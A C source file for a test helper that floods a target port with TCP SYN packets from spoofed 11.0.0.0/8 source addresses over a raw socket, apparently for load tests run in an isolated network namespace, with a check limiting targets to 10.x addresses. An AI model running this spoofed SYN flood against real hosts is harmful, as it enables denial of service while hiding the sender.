/*
 * Throws SYNs at a steady rate from addresses that nobody has, through a raw socket of the network namespace it runs in.
 *
 *     attack_flood ADDRESS PORT PER_SECOND SECONDS        IPv4 only
 *
 * Prints how many left in how many seconds. Meant for the tests beside it, in a namespace of their own; it refuses any
 * address that is not private.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH   32
#define OPTIONS 20 /* what a Linux client offers: MSS, SACK, timestamps, window scale */

struct packet {
    struct iphdr ip;
    struct tcphdr tcp;
    uint8_t options[OPTIONS];
};

static uint32_t add_words(uint32_t sum, const void *data, size_t len)
{
    const uint8_t *bytes = data;
    for (size_t i = 0; i + 1 < len; i += 2)
        sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
    return sum;
}

static uint16_t finish(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

/* The `number`th SYN, from somewhere in 11.0.0.0/8. */
static void write_syn(struct packet *p, struct in_addr to, uint16_t port, uint32_t number)
{
    static const uint8_t options[OPTIONS] = {2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7};
    memset(p, 0, sizeof *p);
    p->ip = (struct iphdr){
        .version = 4,
        .ihl = 5,
        .tot_len = htons(sizeof *p),
        .ttl = 64,
        .protocol = IPPROTO_TCP,
        .saddr = htonl(0x0b000000u | (number * 2654435761u >> 8)),
        .daddr = to.s_addr,
    };
    p->tcp = (struct tcphdr){
        .source = htons((uint16_t)(1024 + number % 60000)),
        .dest = htons(port),
        .seq = htonl(number * 747796405u),
        .doff = (sizeof p->tcp + OPTIONS) / 4,
        .syn = 1,
        .window = htons(64240),
    };
    memcpy(p->options, options, OPTIONS);
    uint32_t pseudo = add_words(IPPROTO_TCP + sizeof p->tcp + OPTIONS, &p->ip.saddr, 8);
    p->tcp.check = finish(add_words(pseudo, &p->tcp, sizeof p->tcp + OPTIONS));
}

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static void pause_until(double when)
{
    double left = when - now();
    if (left > 0)
        usleep((useconds_t)(left * 1e6));
}

static uint32_t throw_batch(int fd, struct in_addr to, uint16_t port, uint32_t number)
{
    static struct packet packets[BATCH];
    static struct mmsghdr messages[BATCH];
    static struct iovec pieces[BATCH];
    struct sockaddr_in target = {.sin_family = AF_INET, .sin_addr = to};
    for (uint32_t i = 0; i < BATCH; i++) {
        write_syn(&packets[i], to, port, number + i);
        pieces[i] = (struct iovec){&packets[i], sizeof packets[i]};
        messages[i].msg_hdr = (struct msghdr){&target, sizeof target, &pieces[i], 1, NULL, 0, 0};
    }
    int sent = sendmmsg(fd, messages, BATCH, 0);
    return sent > 0 ? (uint32_t)sent : 0;
}

int main(int argc, char **argv)
{
    struct in_addr to;
    if (argc != 5 || inet_pton(AF_INET, argv[1], &to) != 1 || (ntohl(to.s_addr) >> 24) != 10) {
        fprintf(stderr, "usage: attack_flood 10.ADDRESS PORT PER_SECOND SECONDS\n");
        return 2;
    }
    uint16_t port = (uint16_t)atoi(argv[2]);
    double rate = atof(argv[3]), seconds = atof(argv[4]), start = now();
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) {
        fprintf(stderr, "attack_flood: no raw socket: %s\n", strerror(errno));
        return 1;
    }
    uint32_t sent = 0;
    while (now() - start < seconds) {
        sent += throw_batch(fd, to, port, sent);
        pause_until(start + sent / rate);
    }
    printf("%u SYNs in %.2f s\n", sent, now() - start);
    return 0;
}
